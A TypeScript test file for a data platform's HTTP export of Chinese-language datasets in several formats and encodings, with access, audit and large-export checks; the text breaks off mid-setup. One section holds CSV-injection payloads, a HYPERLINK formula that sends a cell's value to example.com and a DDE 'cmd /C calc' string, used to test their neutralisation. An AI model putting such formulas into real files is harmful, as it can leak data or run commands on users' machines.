/**
 * Streamed export over HTTP on the suite's backend: every format parsed back and compared value by
 * value with what went in (a GBK CSV upload with Chinese text), field selection, earlier versions,
 * refusals, who may export, the COPY fast path byte for byte against the generic path, constant
 * memory on 200,000 rows, and aborted downloads that give back their connection.
 */
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, signIn, type Session, type TestApp } from '../../../../test/app.ts';
import { item, metadata, publishEntry } from '../../../../test/catalog.ts';
import { TEST_BACKEND } from '../../../../test/database.ts';
import { SHENYANG_DISTRICTS, uploadAs } from '../../../../test/provision.ts';
import { creditCodeCheckCharacter, organisationCodeCheckCharacter } from '../../../shared/identifiers.ts';
import type { Actor } from '../../../shared/principal.ts';
import { to as copyTo } from 'pg-copy-streams';
import { prepareExport, type ExportQuery } from './export.ts';
import { collectGarbage } from '../../../formats/test-files.ts';
import { loadEntry } from '../provision.service.ts';

let t: TestApp;
let base = '';
const s: Record<string, Session> = {};
const as = (u: string): Session => {
  const session = s[u];
  if (!session) throw new Error(`${u} is not signed in`);
  return session;
};

/** A valid 统一社会信用代码 of the division, from the first organisation code near `organisation8` that has a check character. */
function code(division: string, organisation8: string): string {
  for (const last of '0123456789ABCDEFGHJKLMNPQRTUWXY') {
    const org = `${organisation8.slice(0, 7)}${last}`;
    const orgCheck = organisationCodeCheckCharacter(org);
    if (orgCheck === null) continue;
    const first17 = `91${division}${org}${orgCheck}`;
    const check = creditCodeCheckCharacter(first17);
    if (check !== null) return `${first17}${check}`;
  }
  throw new Error(`no code near ${organisation8}`);
}

// ---------- the data ----------

const ITEMS = [
  item('code', '编号', { length: 20 }),
  item('name', '名称', { length: 100 }),
  item('credit_code', '统一社会信用代码', { dataType: 'credit_code', length: 18 }),
  item('staff', '从业人数', { dataType: 'integer', length: 6 }),
  item('area', '建筑面积', { dataType: 'decimal', length: 12 }),
  item('opened', '开馆日期', { dataType: 'date', length: null }),
  item('updated', '更新时间', { dataType: 'datetime', length: null }),
  item('free', '免费开放', { dataType: 'boolean', length: null }),
  item('location', '位置', { dataType: 'geometry', length: null }),
  item('note', '备注', { length: 200, required: false }),
];
const NAMES = ITEMS.map((i) => i.name);
const LABELS = ITEMS.map((i) => i.label);

/** One row: the CSV text uploaded per item, and the text the export gives for it (null: empty). */
interface Sample {
  input: string[];
  out: (string | null)[];
}
const point = (x: number, y: number) => `{"type": "Point", "coordinates": [${x}, ${y}]}`;
const C1 = code('210100', 'MA0P4AXX');
const C2 = code('210102', 'MA0Q9B2K');
const C3 = code('210103', 'MA0R7C3L');
const V1: Sample[] = [
  {
    input: [
      'L001',
      '沈阳市图书馆',
      C1,
      '120',
      '52000.50',
      '2003-09-28',
      '2026-03-15 08:30:00',
      '是',
      'POINT(123.4328 41.8083)',
      '皇姑区崇山东路 61 号，“市图”',
    ],
    out: [
      'L001',
      '沈阳市图书馆',
      C1,
      '120',
      '52000.50',
      '2003-09-28',
      '2026-03-15T08:30:00+08:00',
      'true',
      point(123.4328, 41.8083),
      '皇姑区崇山东路 61 号，“市图”',
    ],
  },
  {
    input: [
      'L002',
      '和平区图书馆,分馆"一"',
      C2,
      '35',
      '3100',
      '1998-05-04',
      '2026-03-16 17:05:09',
      '否',
      'POINT(123.3947 41.7892)',
      '第一行\n第二行',
    ],
    out: [
      'L002',
      '和平区图书馆,分馆"一"',
      C2,
      '35',
      '3100',
      '1998-05-04',
      '2026-03-16T17:05:09+08:00',
      'false',
      point(123.3947, 41.7892),
      '第一行\n第二行',
    ],
  },
  {
    input: [
      'L003',
      '〇号线沿线鑫々阅览室',
      C3,
      '8',
      '0.75',
      '2020-01-01',
      '2026-01-01 00:00:00',
      '是',
      'POINT(123.4651 41.8026)',
      '',
    ],
    out: [
      'L003',
      '〇号线沿线鑫々阅览室',
      C3,
      '8',
      '0.75',
      '2020-01-01',
      '2026-01-01T00:00:00+08:00',
      'true',
      point(123.4651, 41.8026),
      null,
    ],
  },
];
/** Version 2: L002 changed, L003 removed, L004 added. */
const V2: Sample[] = [
  V1[0] as Sample,
  {
    input: [
      'L002',
      '和平区图书馆（新馆）',
      C2,
      '40',
      '3100',
      '1998-05-04',
      '2026-04-01 09:00:00',
      '否',
      'POINT(123.3947 41.7892)',
      '',
    ],
    out: [
      'L002',
      '和平区图书馆（新馆）',
      C2,
      '40',
      '3100',
      '1998-05-04',
      '2026-04-01T09:00:00+08:00',
      'false',
      point(123.3947, 41.7892),
      null,
    ],
  },
  {
    input: [
      'L004',
      '浑南区少儿图书馆',
      code('210112', 'MA0T8D4M'),
      '12',
      '880.125',
      '2015-06-01',
      '2026-04-02 10:11:12',
      '是',
      'POINT(123.4662 41.7245)',
      '少儿',
    ],
    out: [
      'L004',
      '浑南区少儿图书馆',
      code('210112', 'MA0T8D4M'),
      '12',
      '880.125',
      '2015-06-01',
      '2026-04-02T10:11:12+08:00',
      'true',
      point(123.4662, 41.7245),
      '少儿',
    ],
  },
];

const csvQuote = (v: string) => (/[",\n\r]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
const gbkCsv = (header: string[], rows: Sample[]) =>
  iconv.encode(
    [header, ...rows.map((r) => r.input)].map((r) => r.map(csvQuote).join(',')).join('\r\n') + '\r\n',
    'gbk',
  );

// ---------- HTTP ----------

interface Got {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
}

function get(path: string, who?: string, at = base): Promise<Got> {
  return new Promise((resolve, reject) => {
    const req = http.get(`${at}${path}`, { headers: who ? { cookie: as(who).cookie } : {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
  });
}

/** Opens a download and answers the response, unread (paused). */
function open(
  path: string,
  who: string,
  at = base,
): Promise<{ req: http.ClientRequest; res: http.IncomingMessage }> {
  return new Promise((resolve, reject) => {
    const req = http.get(`${at}${path}`, { headers: { cookie: as(who).cookie } }, (res) => {
      res.pause();
      resolve({ req, res });
    });
    req.on('error', reject);
  });
}

const problemOf = (g: Got) =>
  JSON.parse(g.body.toString('utf8')) as {
    code: string;
    message: { zh: string; en: string };
    limit?: string;
  };

let entryId = '';
let plainEntryId = '';
let v1Id = '';
const url = (q: string, id = entryId) => `/api/provision/entries/${id}/export?${q}`;

const upload = (id: string, body: Buffer, query = 'format=csv') =>
  uploadAs(t.app, as('scjg.provider'), id, body, query);

beforeAll(async () => {
  t = await buildTestApp();
  await t.app.listen({ port: 0, host: '127.0.0.1' });
  base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
  for (const u of [
    'scjg.cataloguer',
    'scjg.provider',
    'scjg.approver',
    'scjg.user',
    'reviewer',
    'gongan.provider',
    'heping.reviewer',
    'citizen',
  ])
    s[u] = await signIn(t.app, u);
  const entry = await publishEntry(
    as('scjg.cataloguer'),
    as('reviewer'),
    metadata({ name: '沈阳市公共图书馆名录', dataItems: ITEMS }),
  );
  entryId = entry.id;
  const settings = await as('scjg.provider').request('PUT', `/api/provision/entries/${entryId}/settings`, {
    keyFields: ['code'],
  });
  expect(settings.statusCode, settings.body).toBe(200);
  const first = await upload(entryId, gbkCsv(LABELS, V1), 'format=csv&encoding=gbk');
  expect(first.statusCode, first.body).toBe(201);
  v1Id = (first.json() as { versionId: string }).versionId;
  const second = await upload(entryId, gbkCsv(NAMES, V2));
  expect(second.statusCode, second.body).toBe(201);
  const plain = await publishEntry(
    as('scjg.cataloguer'),
    as('reviewer'),
    metadata({
      name: '企业名录',
      dataItems: [
        item('firm_code', '企业编号', { length: 20 }),
        item('firm_name', '企业名称', { length: 100 }),
      ],
    }),
  );
  plainEntryId = plain.id;
  const third = await upload(
    plainEntryId,
    Buffer.from('firm_code,firm_name\r\nF1,沈阳𠮷祥商贸有限公司\r\nF2,沈阳鑫源商贸\r\n'),
    'format=csv&encoding=utf8',
  );
  expect(third.statusCode, third.body).toBe(201);
}, 180_000);

afterAll(async () => {
  await t?.close();
});

/** The exported text of every item of every row, as the CSV round trip gives it (null → ''). */
const csvExpected = (rows: Sample[]) => rows.map((r) => r.out.map((v) => v ?? ''));

describe('export formats round-trip Chinese text', () => {
  it('CSV in UTF-8 with BOM: header of names, every value as it went in', async () => {
    const g = await get(url('format=csv'), 'scjg.provider');
    expect(g.status, g.body.toString()).toBe(200);
    expect(g.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(g.headers['x-data-version']).toBe('2');
    expect(g.body.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = g.body.toString('utf8');
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows[0]).toEqual(NAMES);
    expect(rows.slice(1)).toEqual(csvExpected(V2));
    // LF line ends; RFC 4180 quoting of a JSON geometry's quotes.
    expect(text.split('\n')[1]).toBe(
      `L001,沈阳市图书馆,${C1},120,52000.50,2003-09-28,2026-03-15T08:30:00+08:00,true,"{""type"": ""Point"", ""coordinates"": [123.4328, 41.8083]}",皇姑区崇山东路 61 号，“市图”`,
    );
    const disposition = String(g.headers['content-disposition']);
    expect(disposition).toContain(`filename="data-v2.csv"`);
    const encoded = /filename\*=UTF-8''([^;]+)/.exec(disposition)?.[1] ?? '';
    expect(decodeURIComponent(encoded)).toBe('沈阳市公共图书馆名录-v2.csv');
  });

  it('CSV in GBK and GB18030, with Chinese labels as the header', async () => {
    for (const encoding of ['gbk', 'gb18030'] as const) {
      const g = await get(url(`format=csv&encoding=${encoding}&header=label&version=1`), 'scjg.provider');
      expect(g.status, g.body.toString()).toBe(200);
      expect(g.headers['content-type']).toBe(`text/csv; charset=${encoding}`);
      // No BOM and not UTF-8: decoded as the encoding it claims.
      expect(g.body.subarray(0, 3)).not.toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const rows = parse(iconv.decode(g.body, encoding)) as string[][];
      expect(rows[0]).toEqual(LABELS);
      expect(rows.slice(1)).toEqual(csvExpected(V1));
    }
  });

  it('XLSX with typed cells: numbers, dates, booleans; identifiers as text', async () => {
    const g = await get(url('format=xlsx&header=label'), 'scjg.provider');
    expect(g.status, g.body.toString()).toBe(200);
    expect(g.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(g.body as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no sheet');
    expect(ws.name).toBe('沈阳市公共图书馆名录');
    expect(ws.rowCount).toBe(V2.length + 1);
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(LABELS);
    V2.forEach((sample, r) => {
      const cells = (ws.getRow(r + 2).values as unknown[]).slice(1);
      const [code_, name, credit, staff, area, opened, updated, free, location, note] = sample.out;
      const utc = (text: string | null | undefined) => {
        const m = /^(\d{4})-(\d{2})-(\d{2})(?:T(\d{2}):(\d{2}):(\d{2}))?/.exec(text ?? '');
        if (!m) throw new Error(`no date in ${text}`);
        const n = (k: number) => Number(m[k] ?? 0);
        return new Date(Date.UTC(n(1), n(2) - 1, n(3), n(4), n(5), n(6)));
      };
      const expected = [
        code_,
        name,
        credit,
        Number(staff),
        Number(area),
        utc(opened),
        utc(updated),
        free === 'true',
        location,
      ];
      expect(cells.slice(0, 9)).toEqual(expected);
      expect(cells[9] ?? null).toBe(note);
    });
    expect(typeof (ws.getRow(2).values as unknown[])[3]).toBe('string');
  });

  it('JSON: an array of objects with numbers, booleans and geometries typed', async () => {
    const g = await get(url('format=json'), 'scjg.provider');
    expect(g.status, g.body.toString()).toBe(200);
    expect(g.headers['content-type']).toBe('application/json; charset=utf-8');
    const records = JSON.parse(g.body.toString('utf8')) as Record<string, unknown>[];
    expect(records).toEqual(
      V2.map((r) => {
        const o = r.out;
        return {
          code: o[0],
          name: o[1],
          credit_code: o[2],
          staff: Number(o[3]),
          area: Number(o[4]),
          opened: o[5],
          updated: o[6],
          free: o[7] === 'true',
          location: JSON.parse(o[8] ?? 'null') as unknown,
          note: o[9],
        };
      }),
    );
    // The exact numeral of a decimal is kept in the text.
    expect(g.body.toString('utf8')).toContain('"area":52000.50');
  });

  it('GeoJSON: a FeatureCollection with the geometry item as geometry', async () => {
    const g = await get(url('format=geojson&fields=code,name'), 'scjg.provider');
    expect(g.status, g.body.toString()).toBe(200);
    expect(g.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    expect(String(g.headers['content-disposition'])).toContain('filename="data-v2.geojson"');
    const fc = JSON.parse(g.body.toString('utf8')) as {
      type: string;
      features: { type: string; geometry: unknown; properties: Record<string, unknown> }[];
    };
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features).toEqual(
      V2.map((r) => ({
        type: 'Feature',
        geometry: JSON.parse(r.out[8] ?? 'null') as unknown,
        properties: { code: r.out[0], name: r.out[1] },
      })),
    );
  });
});

describe('choosing what to export', () => {
  it('picks fields in the order asked', async () => {
    const g = await get(url('format=csv&fields=name,code'), 'scjg.provider');
    expect(g.status).toBe(200);
    expect(parse(g.body.toString('utf8'), { bom: true })).toEqual([
      ['name', 'code'],
      ...V2.map((r) => [r.out[1], r.out[0]]),
    ]);
    const j = await get(url('format=json&fields=staff'), 'scjg.provider');
    expect(JSON.parse(j.body.toString('utf8'))).toEqual(V2.map((r) => ({ staff: Number(r.out[3]) })));
  });

  it('exports an earlier version by number or by id', async () => {
    for (const version of ['1', v1Id]) {
      const g = await get(url(`format=csv&version=${version}`), 'scjg.provider');
      expect(g.status).toBe(200);
      expect(g.headers['x-data-version']).toBe('1');
      expect((parse(g.body.toString('utf8'), { bom: true }) as string[][]).slice(1)).toEqual(csvExpected(V1));
    }
  });

  it('an empty selection of rows still gives a header (a version of the other entry)', async () => {
    const g = await get(url('format=csv&encoding=gb18030', plainEntryId), 'scjg.provider');
    expect(g.status).toBe(200);
    expect(parse(iconv.decode(g.body, 'gb18030'))).toEqual([
      ['firm_code', 'firm_name'],
      ['F1', '沈阳𠮷祥商贸有限公司'],
      ['F2', '沈阳鑫源商贸'],
    ]);
  });
});

describe('refusals come before the first byte, as problem+json', () => {
  it.each([
    ['format=pdf', 400, 'validation'],
    ['format=xlsx&encoding=gbk', 400, 'validation'],
    ['format=csv&fields=name,nope', 400, 'validation'],
    ['format=csv&fields=name,name', 400, 'validation'],
    ['format=csv&version=abc', 400, 'validation'],
    ['format=xlsx&variant=machine', 400, 'validation'],
    ['format=csv&variant=raw', 400, 'validation'],
    ['format=csv&version=99', 404, 'not_found'],
    ['format=csv&version=00000000-0000-4000-8000-000000000000', 404, 'not_found'],
  ])('%s → %i %s', async (q, status, problem) => {
    const g = await get(url(q), 'scjg.provider');
    expect(g.status, g.body.toString()).toBe(status);
    expect(g.headers['content-type']).toMatch(/^application\/problem\+json/);
    const p = problemOf(g);
    expect(p.code).toBe(problem);
    expect(p.message.zh).toMatch(/[\u4e00-\u9fa5]/);
  });

  it('a failed version has nothing to export (409)', async () => {
    const bad = await upload(
      entryId,
      gbkCsv(NAMES, [{ input: ['L9', '错误', 'X', 'x', '', '', '', '', '', ''], out: [] }]),
    );
    expect(bad.statusCode).toBe(422);
    const no = (bad.json() as { versionNo: number }).versionNo;
    const g = await get(url(`format=csv&version=${no}`), 'scjg.provider');
    expect(g.status).toBe(409);
    expect(problemOf(g).code).toBe('version_not_exportable');
    // The current version is still version 2.
    expect((await get(url('format=csv'), 'scjg.provider')).headers['x-data-version']).toBe('2');
  });

  it('GeoJSON of data without a geometry item (400)', async () => {
    const g = await get(url('format=geojson', plainEntryId), 'scjg.provider');
    expect(g.status).toBe(400);
    expect(problemOf(g).code).toBe('no_geometry');
    expect(problemOf(g).message.zh).toContain('GeoJSON');
  });

  it('GBK when a value holds a character GBK cannot encode (422, naming row, item and character)', async () => {
    const g = await get(url('format=csv&encoding=gbk', plainEntryId), 'scjg.provider');
    expect(g.status).toBe(422);
    const p = problemOf(g);
    expect(p.code).toBe('not_gbk_encodable');
    expect(p.message.zh).toContain('第 1 行');
    expect(p.message.zh).toContain('企业名称');
    expect(p.message.zh).toContain('𠮷');
    expect(p.message.zh).toContain('GB18030');
  });

  it('an entry with no data yet (404)', async () => {
    const empty = await publishEntry(
      as('scjg.cataloguer'),
      as('reviewer'),
      metadata({ name: '尚无数据的目录' }),
    );
    const g = await get(url('format=csv', empty.id), 'scjg.provider');
    expect(g.status).toBe(404);
  });
});

describe('who may export', () => {
  it("the department's providers and approvers; nobody else", async () => {
    expect((await get(url('format=csv'), 'scjg.provider')).status).toBe(200);
    // The department's other roles and the authority's reviewers (who read rows masked) take no copy.
    expect((await get(url('format=csv'), 'scjg.user')).status).toBe(403);
    expect((await get(url('format=csv'), 'scjg.cataloguer')).status).toBe(403);
    expect((await get(url('format=csv'), 'reviewer')).status).toBe(403);
    // Another department does not learn the entry exists; a reviewer of any authority is refused at the door.
    expect((await get(url('format=csv'), 'gongan.provider')).status).toBe(404);
    expect((await get(url('format=csv'), 'heping.reviewer')).status).toBe(403);
    expect((await get(url('format=csv'), 'citizen')).status).toBe(403);
    const anonymous = await get(url('format=csv'));
    expect(anonymous.status).toBe(401);
    expect(problemOf(anonymous).code).toBe('unauthenticated');
  });

  it('every export is audited with its version, format and fields', async () => {
    await get(url('format=json&fields=code&version=1'), 'scjg.provider');
    const rows = await t.app.db
      .selectFrom('audit_log')
      .select(['action', 'detail', 'target_id'])
      .where('action', '=', 'provision.data_exported')
      .orderBy('seq', 'desc')
      .limit(1)
      .execute();
    expect(rows[0]).toMatchObject({
      target_id: entryId,
      detail: { versionNo: 1, format: 'json', fields: ['code'], rows: V1.length },
    });
  });
});

describe('the COPY fast path (PostgreSQL) gives the bytes of the generic path', () => {
  it('for values that need quoting, empty strings, nulls and a lone \\.', async () => {
    // A version of one column holding the hard cases (written straight into its table).
    const one = await publishEntry(
      as('scjg.cataloguer'),
      as('reviewer'),
      metadata({ name: '引号测试', dataItems: [item('text', '文本', { length: 100, required: false })] }),
    );
    const up = await upload(one.id, Buffer.from('text\r\nA\r\n'), 'format=csv&encoding=utf8');
    expect(up.statusCode).toBe(201);
    const v = await t.app.db
      .selectFrom('data_versions')
      .select('table_name')
      .where('entry_id', '=', one.id)
      .executeTakeFirstOrThrow();
    const hard = [
      '',
      '\\.',
      'a,b',
      'say "hi"',
      'line\nbreak',
      'cr\rhere',
      ' lead',
      '沈阳,“全角”',
      '\\N',
      'tab\there',
      '😀𠮷',
      // Formula-like: neutralised in the CSV for spreadsheets, as they are in the machine CSV.
      '=1+1',
      '-1',
      '+',
      '@x',
      '\tlead tab',
      '\rlead cr',
      "'=quoted already",
    ];
    for (const [i, text] of hard.entries())
      await sql`insert into ${sql.id('resource_data', v.table_name ?? '')} (_row, c1) values (${i + 10}, ${text})`.execute(
        t.app.db,
      );
    await sql`insert into ${sql.id('resource_data', v.table_name ?? '')} (_row, c1) values (100, null)`.execute(
      t.app.db,
    );
    const actor = await actorOf('scjg.provider');
    const entry = await loadEntry(t.app.db, one.id);
    const bytes = async (q: ExportQuery, generic: boolean) => {
      const p = await prepareExport(t.app.database, actor, entry, q, { generic, batchSize: 3 });
      const chunks: Buffer[] = [];
      for await (const c of p.open()) chunks.push(c as Buffer);
      return Buffer.concat(chunks);
    };
    const formulaLike = /^[=+\-@\t\r]/;
    for (const variant of ['spreadsheet', 'machine'] as const)
      for (const encoding of ['utf-8', 'gb18030'] as const) {
        const fast = await bytes({ format: 'csv', encoding, variant }, false);
        const generic = await bytes({ format: 'csv', encoding, variant }, true);
        expect(
          fast.equals(generic),
          `${variant} ${encoding}:\n${fast.toString()}\n---\n${generic.toString()}`,
        ).toBe(true);
        // A BOM only in the UTF-8 CSV for spreadsheets.
        expect(fast.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(
          variant === 'spreadsheet' && encoding === 'utf-8',
        );
        const parsed = parse(iconv.decode(fast, encoding === 'utf-8' ? 'utf8' : 'gb18030'), {
          bom: true,
        }) as string[][];
        const values = variant === 'machine' ? hard : hard.map((h) => (formulaLike.test(h) ? `'${h}` : h));
        expect(parsed.map((r) => r[0])).toEqual(['text', 'A', ...values, '']);
      }
    if (TEST_BACKEND === 'postgres') {
      // The machine CSV in UTF-8 is what COPY … (FORMAT csv, HEADER) writes, byte for byte.
      const lease = await t.app.database.lease(`test-copy:${crypto.randomUUID()}`);
      const client = lease?.client;
      if (!lease || !client) throw new Error('no connection');
      try {
        const chunks: Buffer[] = [];
        const copy = client.query(
          copyTo(
            `copy (select c1 as text from resource_data.${v.table_name ?? ''} order by _row) to stdout with (format csv, header)`,
          ),
        );
        for await (const c of copy) chunks.push(c as Buffer);
        expect(
          (await bytes({ format: 'csv', variant: 'machine' }, false)).equals(Buffer.concat(chunks)),
        ).toBe(true);
      } finally {
        await lease.release();
      }
    }
    const text = (await bytes({ format: 'csv' }, false)).toString('utf8');
    // An empty string is quoted, a null is not; a lone \. is quoted (a one-column COPY would end there).
    expect(text.split('\n').slice(2, 4)).toEqual(['""', '"\\."']);
    expect(text.endsWith('\n\n')).toBe(true);
  });
});

describe('values a spreadsheet would run as formulas', () => {
  let id = '';
  const LABELS_F = ['文本', '-说明', '金额', '数量', '日期'];
  const HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击")';
  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
  /** As provided and stored (the machine CSV, JSON); the last row written straight into the table. */
  const STORED = [
    [HYPERLINK, '+1', '-3.5', '-7', '2020-01-01'],
    [DDE, '-2+3', '0.5', '3', '2020-01-02'],
    ['普通文本', 'a=b', '-0.25', '-1', '2020-01-03'],
    ['\t=1', '\r-1', '', '', ''],
  ];
  /** In the CSV for spreadsheets: text values get a ' before them; numbers and dates do not. */
  const NEUTRALISED = [
    [`'${HYPERLINK}`, "'+1", '-3.5', '-7', '2020-01-01'],
    [`'${DDE}`, "'-2+3", '0.5', '3', '2020-01-02'],
    ['普通文本', 'a=b', '-0.25', '-1', '2020-01-03'],
    ["'\t=1", "'\r-1", '', '', ''],
  ];
  let report: {
    notices?: {
      code: string;
      field: string;
      count: number;
      firstRow: number;
      firstValue: string;
      message: { zh: string };
    }[];
    problemCount: number;
  } | null = null;

  beforeAll(async () => {
    const entry = await publishEntry(
      as('scjg.cataloguer'),
      as('reviewer'),
      metadata({
        name: '公式测试',
        dataItems: [
          item('text', '文本', { length: 100 }),
          item('note', '-说明', { length: 100, required: false }),
          item('amount', '金额', { dataType: 'decimal', length: 12, required: false }),
          item('qty', '数量', { dataType: 'integer', length: 6, required: false }),
          item('opened', '日期', { dataType: 'date', length: null, required: false }),
        ],
      }),
    );
    id = entry.id;
    const rows = STORED.slice(0, 3).map((r) => r.map(csvQuote).join(','));
    const up = await upload(
      id,
      Buffer.from(`text,note,amount,qty,opened\r\n${rows.join('\r\n')}\r\n`),
      'format=csv&encoding=utf8',
    );
    expect(up.statusCode, up.body).toBe(201);
    report = (up.json() as { report: typeof report }).report;
    // Ingest trims values, so a leading tab or carriage return can only be written straight in.
    const v = await t.app.db
      .selectFrom('data_versions')
      .select('table_name')
      .where('entry_id', '=', id)
      .executeTakeFirstOrThrow();
    await sql`insert into ${sql.id('resource_data', v.table_name ?? '')} (_row, c1, c2) values (100, ${'\t=1'}, ${'\r-1'})`.execute(
      t.app.db,
    );
  });

  it('ingest accepts them and its report flags them per text item, with the count and first row', () => {
    expect(report?.problemCount).toBe(0);
    expect(report?.notices?.map((n) => [n.code, n.field, n.count, n.firstRow, n.firstValue])).toEqual([
      ['formula_like', 'text', 2, 2, HYPERLINK],
      ['formula_like', 'note', 2, 2, '+1'],
    ]);
    expect(report?.notices?.[0]?.message.zh).toContain('“文本”有 2 个值');
  });

  it('the CSV for spreadsheets (UTF-8 with BOM, GBK, GB18030) puts a quote before them, numbers stay numbers', async () => {
    for (const encoding of ['utf-8', 'gbk', 'gb18030'] as const) {
      for (const q of [
        `format=csv&encoding=${encoding}&header=label`,
        `format=csv&encoding=${encoding}&header=label&variant=spreadsheet`,
      ]) {
        const g = await get(url(q, id), 'scjg.provider');
        expect(g.status, g.body.toString()).toBe(200);
        const text = encoding === 'utf-8' ? g.body.toString('utf8') : iconv.decode(g.body, encoding);
        expect(text.startsWith('\ufeff')).toBe(encoding === 'utf-8');
        const rows = parse(text, { bom: true }) as string[][];
        // A label is free text too.
        expect(rows[0]).toEqual(['文本', "'-说明", '金额', '数量', '日期']);
        expect(rows.slice(1)).toEqual(NEUTRALISED);
      }
    }
  });

  it('the machine CSV is the data as stored, without a BOM', async () => {
    const g = await get(url('format=csv&variant=machine', id), 'scjg.provider');
    expect(g.status).toBe(200);
    expect(g.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(g.body.subarray(0, 4).toString('utf8')).toBe('text');
    expect(parse(g.body.toString('utf8'))).toEqual([['text', 'note', 'amount', 'qty', 'opened'], ...STORED]);
    const labelled = await get(
      url('format=csv&variant=machine&header=label&encoding=gbk', id),
      'scjg.provider',
    );
    expect((parse(iconv.decode(labelled.body, 'gbk')) as string[][])[0]).toEqual(LABELS_F);
  });

  it('XLSX holds them as text cells, never formulas; numbers as numbers', async () => {
    const g = await get(url('format=xlsx&header=label', id), 'scjg.provider');
    expect(g.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(g.body as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no sheet');
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(LABELS_F);
    for (const [r, row] of STORED.entries()) {
      for (const c of [1, 2]) {
        const cell = ws.getRow(r + 2).getCell(c);
        expect(cell.type, `${r + 2}:${c}`).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML reads a carriage return as a line feed (exceljs writes it unescaped): an XLSX limit
        // of its own, not a formula matter.
        expect(cell.value).toBe(row[c - 1]?.replaceAll('\r', '\n'));
      }
    }
    expect(ws.getRow(2).getCell(3).value).toBe(-3.5);
    expect(ws.getRow(2).getCell(4).value).toBe(-7);
  });

  it('JSON gives them as they are', async () => {
    const g = await get(url('format=json&fields=text,note,amount', id), 'scjg.provider');
    expect(JSON.parse(g.body.toString('utf8'))).toEqual(
      STORED.map((r) => ({ text: r[0], note: r[1], amount: r[2] === '' ? null : Number(r[2]) })),
    );
  });

  it('every export of CSV is audited with its variant', async () => {
    await get(url('format=csv&variant=machine', id), 'scjg.provider');
    const row = await t.app.db
      .selectFrom('audit_log')
      .select('detail')
      .where('action', '=', 'provision.data_exported')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(row.detail).toMatchObject({ format: 'csv', encoding: 'utf-8', variant: 'machine' });
  });
});

/** The actor of a signed-in account, for calling the service directly. */
async function actorOf(username: string): Promise<Actor> {
  const a = await t.app.db
    .selectFrom('accounts as a')
    .innerJoin('organisations as o', 'o.id', 'a.org_id')
    .select(['a.id', 'a.username', 'o.id as orgId', 'o.name', 'o.kind', 'o.level', 'o.division_code'])
    .where('a.username', '=', username)
    .executeTakeFirstOrThrow();
  return {
    ip: '127.0.0.1',
    principal: {
      kind: 'staff',
      accountId: a.id,
      username: a.username,
      displayName: a.username,
      org: { id: a.orgId, name: a.name, kind: a.kind, level: a.level, divisionCode: a.division_code },
      roles: ['provider'],
      sessionId: 'test',
      csrfToken: 'test',
      mustChangePassword: false,
    },
  };
}

describe('large exports', () => {
  const ROWS = 200_000;
  /**
   * Who holds downloads in these tests: the department's two exporters (its provider and its
   * approver), two each — within the limits of `wide`, a second server on the same database whose
   * per-user (3) and per-organisation caps are wider than the default, so that its server cap (4)
   * is what a fifth download meets.
   */
  const HOLDERS = ['scjg.provider', 'scjg.approver', 'scjg.provider', 'scjg.approver'];
  let bigId = '';
  let wide: TestApp | null = null;
  let wideAt = '';
  const DISTRICTS = SHENYANG_DISTRICTS;

  beforeAll(async () => {
    const big = await publishEntry(
      as('scjg.cataloguer'),
      as('reviewer'),
      metadata({
        name: '企业登记信息（大表）',
        dataItems: [
          item('no', '序号', { dataType: 'integer', length: 8 }),
          item('firm', '企业名称', { length: 100 }),
          item('district', '所在区', { length: 20 }),
          item('address', '地址', { length: 200 }),
          item('capital', '注册资本', { dataType: 'decimal', length: 16 }),
          item('founded', '成立日期', { dataType: 'date', length: null }),
        ],
      }),
    );
    bigId = big.id;
    const up = await upload(
      bigId,
      Buffer.from('no,firm,district,address,capital,founded\r\n1,甲,和平区,沈阳,1,2020-01-01\r\n'),
      'format=csv&encoding=utf8',
    );
    expect(up.statusCode, up.body).toBe(201);
    const v = await t.app.db
      .selectFrom('data_versions')
      .select(['id', 'table_name'])
      .where('entry_id', '=', bigId)
      .executeTakeFirstOrThrow();
    const table = sql.id('resource_data', v.table_name ?? '');
    // The rows are written straight into the version's table: what is tested here is the export.
    await sql`delete from ${table}`.execute(t.app.db);
    await sql`insert into ${table} (_row, c1, c2, c3, c4, c5, c6)
      select i, i, '沈阳市第' || i || '号示范企业有限公司',
             (array[${sql.join(DISTRICTS)}])[1 + i % 10],
             '沈阳市' || (array[${sql.join(DISTRICTS)}])[1 + i % 10] || '中山路' || i || '号，' || (i % 7) || '楼',
             (i * 1.25)::numeric, date '2000-01-01' + (i % 9000)
        from generate_series(1, ${ROWS}) as i`.execute(t.app.db);
    await t.app.db.updateTable('data_versions').set({ row_count: ROWS }).where('id', '=', v.id).execute();
